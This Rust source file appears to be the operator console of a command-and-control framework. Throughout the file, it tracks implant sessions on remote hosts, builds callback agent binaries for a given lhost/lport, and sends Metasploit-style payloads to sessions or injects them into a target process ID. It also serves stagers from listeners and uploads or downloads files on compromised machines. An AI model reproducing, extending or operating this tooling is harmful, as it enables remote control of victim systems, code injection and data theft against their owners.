//! Command execution against the controller
//!
//! Handlers take the hive and the operator's [`ConsoleContext`] explicitly and
//! write their output to any `std::io::Write`, so they run the same against a
//! terminal or a test buffer.

use crate::command::{render_command_help, render_help, ConsoleCommand};
use crate::context::ConsoleContext;
use crate::format::{self, INFO, WARN};
use crate::payloads::{AgentConfig, AgentGenerator, PayloadRequest, PayloadSource};
use outpost_control::{
    Correlator, Hive, HiveEvent, ManagementService, RequestError, RpcError, Session, TlsFiles,
};
use outpost_proto::{
    CdReq, DirList, DirListReq, Download, DownloadReq, KillReq, MessageKind, Ping, ProcessList,
    ProcessListReq, Pwd, PwdReq, RemoteTask, Task, Upload, UploadReq,
};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Instant;
use thiserror::Error;
use tokio::io::{AsyncBufReadExt, BufReader};
use tokio::sync::mpsc;
use tracing::{debug, info};

#[derive(Debug, Error)]
pub enum ConsoleError {
    #[error(transparent)]
    Request(#[from] RequestError),

    #[error(transparent)]
    Rpc(#[from] RpcError),

    #[error("No session found for '{0}'")]
    SessionNotFound(String),

    #[error("{0}")]
    InvalidArgument(String),

    #[error("{0}")]
    Unavailable(&'static str),

    #[error("{0:#}")]
    Collaborator(anyhow::Error),

    #[error("I/O error: {0}")]
    Io(#[from] std::io::Error),
}

/// Whether the console keeps reading commands
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flow {
    Continue,
    Exit,
}

/// Executes console commands
pub struct Console {
    hive: Arc<Hive>,
    service: Arc<ManagementService>,
    correlator: Correlator,
    generator: Option<Arc<dyn AgentGenerator>>,
    payloads: Option<Arc<dyn PayloadSource>>,
}

impl Console {
    pub fn new(hive: Arc<Hive>, service: Arc<ManagementService>, correlator: Correlator) -> Self {
        Self {
            hive,
            service,
            correlator,
            generator: None,
            payloads: None,
        }
    }

    pub fn with_generator(mut self, generator: Arc<dyn AgentGenerator>) -> Self {
        self.generator = Some(generator);
        self
    }

    pub fn with_payload_source(mut self, payloads: Arc<dyn PayloadSource>) -> Self {
        self.payloads = Some(payloads);
        self
    }

    pub fn hive(&self) -> &Arc<Hive> {
        &self.hive
    }

    /// Run one command, reporting failures to `out` instead of returning them
    pub async fn execute(
        &self,
        ctx: &mut ConsoleContext,
        command: ConsoleCommand,
        out: &mut dyn Write,
    ) -> std::io::Result<Flow> {
        debug!(?command, "Executing console command");

        match self.dispatch(ctx, command, out).await {
            Ok(flow) => Ok(flow),
            Err(e) => {
                writeln!(out, "{}{}", WARN, e)?;
                Ok(Flow::Continue)
            }
        }
    }

    /// Run one command, returning failures to the caller
    pub async fn dispatch(
        &self,
        ctx: &mut ConsoleContext,
        command: ConsoleCommand,
        out: &mut dyn Write,
    ) -> Result<Flow, ConsoleError> {
        match command {
            ConsoleCommand::Help { topic } => self.help(topic.as_deref(), out)?,
            ConsoleCommand::Sessions => self.sessions(ctx, out)?,
            ConsoleCommand::Info { target } => self.info(ctx, target.as_deref(), out)?,
            ConsoleCommand::Use { target } => self.use_session(ctx, &target, out)?,
            ConsoleCommand::Background => {
                if let Some(session) = ctx.background() {
                    writeln!(out, "{}Backgrounded session {} ({})", INFO, session.name(), session.id())?;
                }
            }
            ConsoleCommand::Generate {
                os,
                arch,
                lhost,
                lport,
                debug,
                save,
            } => {
                let config = AgentConfig {
                    os,
                    arch,
                    lhost: lhost.unwrap_or_else(|| ctx.lhost.clone()),
                    lport: lport.unwrap_or(ctx.lport),
                    debug,
                };
                self.generate(config, save.as_deref(), out).await?
            }
            ConsoleCommand::Msf {
                payload,
                lhost,
                lport,
            } => self.msf(ctx, payload, lhost, lport, None, out).await?,
            ConsoleCommand::Inject {
                pid,
                payload,
                lhost,
                lport,
            } => self.msf(ctx, payload, lhost, lport, Some(pid), out).await?,
            ConsoleCommand::Ps { pid, exe } => self.ps(ctx, pid, exe.as_deref(), out).await?,
            ConsoleCommand::Ping { target } => self.ping(ctx, target.as_deref(), out).await?,
            ConsoleCommand::Kill { target, force } => {
                self.kill(ctx, target.as_deref(), force, out).await?
            }
            ConsoleCommand::Ls { path } => self.ls(ctx, path, out).await?,
            ConsoleCommand::Cd { path } => {
                let pwd: Pwd = self.call(ctx, MessageKind::Cd, &CdReq { path }).await?;
                writeln!(out, "{}{}", INFO, pwd.path)?;
            }
            ConsoleCommand::Pwd => {
                let pwd: Pwd = self.call(ctx, MessageKind::Pwd, &PwdReq {}).await?;
                writeln!(out, "{}{}", INFO, pwd.path)?;
            }
            ConsoleCommand::Download { path, save } => {
                self.download(ctx, path, save.as_deref(), out).await?
            }
            ConsoleCommand::Upload { local, remote } => {
                self.upload(ctx, &local, remote, out).await?
            }
            ConsoleCommand::Jobs { kill } => self.jobs(kill, out).await?,
            ConsoleCommand::Listen {
                host,
                port,
                tls,
                cert,
                key,
            } => {
                let tls = match (tls, cert, key) {
                    (true, Some(cert_path), Some(key_path)) => Some(TlsFiles {
                        cert_path,
                        key_path,
                    }),
                    (true, _, _) => {
                        return Err(ConsoleError::InvalidArgument(
                            "--tls needs --cert and --key".to_string(),
                        ))
                    }
                    _ => None,
                };
                let host = host.unwrap_or_else(|| "0.0.0.0".to_string());
                let port = port.unwrap_or(ctx.lport);

                let job_id = self.service.start_session_listener(&host, port, tls).await?;
                writeln!(out, "{}Started session listener as job #{}", INFO, job_id)?;
            }
            ConsoleCommand::StageListener {
                host,
                port,
                stage_file,
                profile,
            } => {
                let stage = tokio::fs::read(&stage_file).await?;
                let size = stage.len();
                let job_id = self
                    .service
                    .start_tcp_stager_listener(&host, port, &profile, stage)
                    .await?;
                writeln!(
                    out,
                    "{}Serving {} stage on port {} as job #{}",
                    INFO,
                    format::byte_count_binary(size as i64),
                    port,
                    job_id
                )?;
            }
            ConsoleCommand::Exit => return Ok(Flow::Exit),
        }

        Ok(Flow::Continue)
    }

    /// Print a hive event and drop the selection if its session went away
    pub fn render_event(
        &self,
        ctx: &mut ConsoleContext,
        event: &HiveEvent,
        out: &mut dyn Write,
    ) -> std::io::Result<()> {
        match event {
            HiveEvent::Connected(s) => writeln!(
                out,
                "{}Session #{} {} - {} ({}) - {}/{}",
                INFO, s.id, s.name, s.remote_address, s.hostname, s.os, s.arch
            ),
            HiveEvent::Disconnected(s) => {
                writeln!(
                    out,
                    "{}Lost session #{} {} - {} ({}) - {}/{}",
                    WARN, s.id, s.name, s.remote_address, s.hostname, s.os, s.arch
                )?;
                if ctx.clear_if_active(s.id) {
                    writeln!(out, "{}Active session disconnected", WARN)?;
                }
                Ok(())
            }
        }
    }

    /// Read commands from stdin until `exit` or end of input, printing hive
    /// events as they arrive
    pub async fn run(
        &self,
        mut ctx: ConsoleContext,
        mut events: Option<mpsc::UnboundedReceiver<HiveEvent>>,
    ) -> std::io::Result<()> {
        let mut lines = BufReader::new(tokio::io::stdin()).lines();
        let mut stdout = std::io::stdout();

        write!(stdout, "{}", ctx.prompt())?;
        stdout.flush()?;

        loop {
            tokio::select! {
                line = lines.next_line() => {
                    let Some(line) = line? else {
                        info!("Console input closed");
                        return Ok(());
                    };

                    match ConsoleCommand::parse_line(&line) {
                        Ok(None) => {}
                        Ok(Some(command)) => {
                            if self.execute(&mut ctx, command, &mut stdout).await? == Flow::Exit {
                                return Ok(());
                            }
                        }
                        Err(e) => write!(stdout, "{}", e.render())?,
                    }
                }
                Some(event) = recv_event(&mut events) => {
                    writeln!(stdout)?;
                    self.render_event(&mut ctx, &event, &mut stdout)?;
                }
            }

            write!(stdout, "{}", ctx.prompt())?;
            stdout.flush()?;
        }
    }

    fn help(&self, topic: Option<&str>, out: &mut dyn Write) -> Result<(), ConsoleError> {
        match topic {
            None => write!(out, "{}", render_help())?,
            Some(topic) => match render_command_help(topic) {
                Some(help) => write!(out, "{}", help)?,
                None => {
                    return Err(ConsoleError::InvalidArgument(format!(
                        "No help for unknown command '{}'",
                        topic
                    )))
                }
            },
        }
        Ok(())
    }

    fn sessions(&self, ctx: &ConsoleContext, out: &mut dyn Write) -> Result<(), ConsoleError> {
        let sessions = self.service.list_sessions();
        if sessions.is_empty() {
            writeln!(out, "{}No sessions connected", INFO)?;
            return Ok(());
        }

        let active = ctx.active().map(|s| s.id());
        write!(out, "{}", format::sessions_table(&sessions, active))?;
        Ok(())
    }

    fn info(
        &self,
        ctx: &ConsoleContext,
        target: Option<&str>,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        let session = self.target(ctx, target)?;
        write!(out, "{}", format::session_details(session.info()))?;
        Ok(())
    }

    fn use_session(
        &self,
        ctx: &mut ConsoleContext,
        target: &str,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        let session = self
            .hive
            .resolve(target)
            .ok_or_else(|| ConsoleError::SessionNotFound(target.to_string()))?;

        writeln!(
            out,
            "{}Active session set to '{}' ({})",
            INFO,
            session.name(),
            session.id()
        )?;
        ctx.select(session);
        Ok(())
    }

    async fn generate(
        &self,
        config: AgentConfig,
        save: Option<&Path>,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        let generator = self
            .generator
            .as_ref()
            .ok_or(ConsoleError::Unavailable("No agent generator configured"))?;

        if config.lhost.trim().is_empty() {
            return Err(ConsoleError::InvalidArgument(format!(
                "Invalid lhost '{}'",
                config.lhost
            )));
        }

        writeln!(
            out,
            "{}Generating new {}/{} agent binary, please wait ...",
            INFO, config.os, config.arch
        )?;

        let built = generator
            .generate(&config)
            .await
            .map_err(ConsoleError::Collaborator)?;

        let path = match save {
            None => built,
            Some(save) => {
                let mut dest = save.to_path_buf();
                if is_dir(&dest).await {
                    if let Some(name) = built.file_name() {
                        dest.push(name);
                    }
                }
                tokio::fs::copy(&built, &dest).await?;
                dest
            }
        };

        writeln!(out, "{}Generated agent binary at: {}", INFO, path.display())?;
        Ok(())
    }

    async fn msf(
        &self,
        ctx: &ConsoleContext,
        payload: String,
        lhost: Option<String>,
        lport: u16,
        pid: Option<i32>,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        let session = ctx.active().ok_or(RequestError::NoActiveSession)?.clone();
        let source = self
            .payloads
            .as_ref()
            .ok_or(ConsoleError::Unavailable("No payload source configured"))?;

        let lhost = lhost.unwrap_or_default();
        if lhost.trim().is_empty() {
            return Err(ConsoleError::InvalidArgument(format!(
                "Invalid lhost '{}', see `help msf`",
                lhost
            )));
        }

        let info = session.info();
        writeln!(
            out,
            "{}Generating {} {}/{} -> {}:{} ...",
            INFO, payload, info.os, info.arch, lhost, lport
        )?;

        let data = source
            .payload(&PayloadRequest {
                payload,
                os: info.os.clone(),
                arch: info.arch.clone(),
                lhost,
                lport,
            })
            .await
            .map_err(ConsoleError::Collaborator)?;
        writeln!(out, "{}Generated payload {} byte(s)", INFO, data.len())?;

        match pid {
            None => {
                writeln!(out, "{}Sending payload -> {}", INFO, session.name())?;
                let task = Task {
                    encoder: "raw".to_string(),
                    data,
                };
                self.correlator
                    .notify(Some(&session), MessageKind::Task, &task)
                    .await?;
            }
            Some(pid) => {
                writeln!(out, "{}Sending payload -> {} -> PID: {}", INFO, session.name(), pid)?;
                let task = RemoteTask {
                    pid,
                    encoder: "raw".to_string(),
                    data,
                };
                self.correlator
                    .notify(Some(&session), MessageKind::RemoteTask, &task)
                    .await?;
            }
        }

        writeln!(out, "{}Payload sent", INFO)?;
        Ok(())
    }

    async fn ps(
        &self,
        ctx: &ConsoleContext,
        pid: Option<i32>,
        exe: Option<&str>,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        let list: ProcessList = self
            .call(ctx, MessageKind::ProcessList, &ProcessListReq {})
            .await?;

        let shown: Vec<_> = list
            .processes
            .iter()
            .filter(|p| pid.map_or(true, |pid| p.pid == pid))
            .filter(|p| exe.map_or(true, |exe| p.executable.starts_with(exe)))
            .collect();

        let own_pid = ctx.active().map(|s| s.info().pid).unwrap_or(-1);
        write!(out, "{}", format::process_table(&shown, own_pid))?;
        Ok(())
    }

    async fn ping(
        &self,
        ctx: &ConsoleContext,
        target: Option<&str>,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        let session = self.target(ctx, target)?;
        let nonce = uuid::Uuid::new_v4().as_u64_pair().0;

        let started = Instant::now();
        let pong: Ping = self
            .correlator
            .call(Some(&session), MessageKind::Ping, &Ping { nonce })
            .await?;

        if pong.nonce != nonce {
            return Err(ConsoleError::InvalidArgument(format!(
                "Pong nonce mismatch: sent {}, got {}",
                nonce, pong.nonce
            )));
        }

        writeln!(
            out,
            "{}Ping/Pong with {} in {} ms",
            INFO,
            session.name(),
            started.elapsed().as_millis()
        )?;
        Ok(())
    }

    async fn kill(
        &self,
        ctx: &ConsoleContext,
        target: Option<&str>,
        force: bool,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        let session = self.target(ctx, target)?;

        writeln!(out, "{}Killing session {} ({})", INFO, session.name(), session.id())?;
        self.correlator
            .notify(Some(&session), MessageKind::Kill, &KillReq { force })
            .await?;
        Ok(())
    }

    async fn ls(
        &self,
        ctx: &ConsoleContext,
        path: String,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        let list: DirList = self
            .call(ctx, MessageKind::DirList, &DirListReq { path })
            .await?;

        if list.exists {
            write!(out, "{}", format::dir_listing(&list))?;
        } else {
            writeln!(out, "{}Directory does not exist ({})", WARN, list.path)?;
        }
        Ok(())
    }

    async fn download(
        &self,
        ctx: &ConsoleContext,
        path: String,
        save: Option<&Path>,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        let download: Download = self
            .call(ctx, MessageKind::Download, &DownloadReq { path })
            .await?;

        if !download.exists {
            writeln!(out, "{}File does not exist ({})", WARN, download.path)?;
            return Ok(());
        }

        let file_name = remote_file_name(&download.path);
        let dest = match save {
            Some(save) => {
                if is_dir(save).await {
                    save.join(&file_name)
                } else {
                    save.to_path_buf()
                }
            }
            None => PathBuf::from(&file_name),
        };

        tokio::fs::write(&dest, &download.data).await?;
        writeln!(
            out,
            "{}Wrote {} to {}",
            INFO,
            format::byte_count_binary(download.data.len() as i64),
            dest.display()
        )?;
        Ok(())
    }

    async fn upload(
        &self,
        ctx: &ConsoleContext,
        local: &Path,
        remote: Option<String>,
        out: &mut dyn Write,
    ) -> Result<(), ConsoleError> {
        // Fail on the session before touching the disk
        if ctx.active().is_none() {
            return Err(RequestError::NoActiveSession.into());
        }

        let data = tokio::fs::read(local).await?;
        let remote = match remote {
            Some(remote) => remote,
            None => local
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .ok_or_else(|| {
                    ConsoleError::InvalidArgument(format!("No file name in {}", local.display()))
                })?,
        };

        let size = data.len();
        let uploaded: Upload = self
            .call(ctx, MessageKind::Upload, &UploadReq { path: remote, data })
            .await?;

        writeln!(
            out,
            "{}Wrote {} to {}",
            INFO,
            format::byte_count_binary(size as i64),
            uploaded.path
        )?;
        Ok(())
    }

    async fn jobs(&self, kill: Option<u32>, out: &mut dyn Write) -> Result<(), ConsoleError> {
        if let Some(id) = kill {
            let job = self.service.stop_job(id).await?;
            writeln!(out, "{}Stopped job #{} ({})", INFO, job.id, job.address())?;
            return Ok(());
        }

        let jobs = self.service.list_jobs();
        if jobs.is_empty() {
            writeln!(out, "{}No active jobs", INFO)?;
        } else {
            write!(out, "{}", format::jobs_table(&jobs))?;
        }
        Ok(())
    }

    /// Typed request against the active session
    async fn call<Req, Resp>(
        &self,
        ctx: &ConsoleContext,
        kind: MessageKind,
        request: &Req,
    ) -> Result<Resp, ConsoleError>
    where
        Req: serde::Serialize + Sync,
        Resp: serde::de::DeserializeOwned,
    {
        Ok(self.correlator.call(ctx.active(), kind, request).await?)
    }

    fn target(
        &self,
        ctx: &ConsoleContext,
        target: Option<&str>,
    ) -> Result<Arc<Session>, ConsoleError> {
        match target {
            Some(name) => ctx
                .target(&self.hive, Some(name))
                .ok_or_else(|| ConsoleError::SessionNotFound(name.to_string())),
            None => ctx
                .active()
                .cloned()
                .ok_or(ConsoleError::Request(RequestError::NoActiveSession)),
        }
    }
}

async fn recv_event(events: &mut Option<mpsc::UnboundedReceiver<HiveEvent>>) -> Option<HiveEvent> {
    match events {
        Some(rx) => rx.recv().await,
        None => std::future::pending().await,
    }
}

async fn is_dir(path: &Path) -> bool {
    tokio::fs::metadata(path)
        .await
        .map(|m| m.is_dir())
        .unwrap_or(false)
}

/// Last path component of a remote path, for either separator style
fn remote_file_name(path: &str) -> String {
    path.rsplit(['/', '\\'])
        .find(|part| !part.is_empty())
        .unwrap_or("download")
        .to_string()
}
